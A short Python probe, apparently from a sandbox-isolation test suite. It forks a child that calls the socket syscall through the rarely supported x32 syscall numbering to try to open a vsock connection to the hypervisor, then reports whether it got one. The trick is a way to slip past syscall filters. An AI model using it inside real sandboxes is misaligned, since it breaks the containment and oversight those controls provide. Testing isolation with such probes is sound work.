"""Calls the kernel by the numbers of the x32 variant, which few kernels still have."""

import ctypes
import os
import sys

X32, SOCKET, AF_VSOCK = 0x40000000, 41, 40


def attack(world):
    pid = os.fork()
    if pid == 0:
        descriptor = ctypes.CDLL(None).syscall(ctypes.c_long(X32 | SOCKET), AF_VSOCK, 1, 0)
        if descriptor >= 0:
            print("GOT a socket to the hypervisor:", os.readlink(f"/proc/self/fd/{descriptor}"))
        sys.stdout.flush()
        os._exit(0)
    print("the child ended with", os.waitpid(pid, 0)[1])
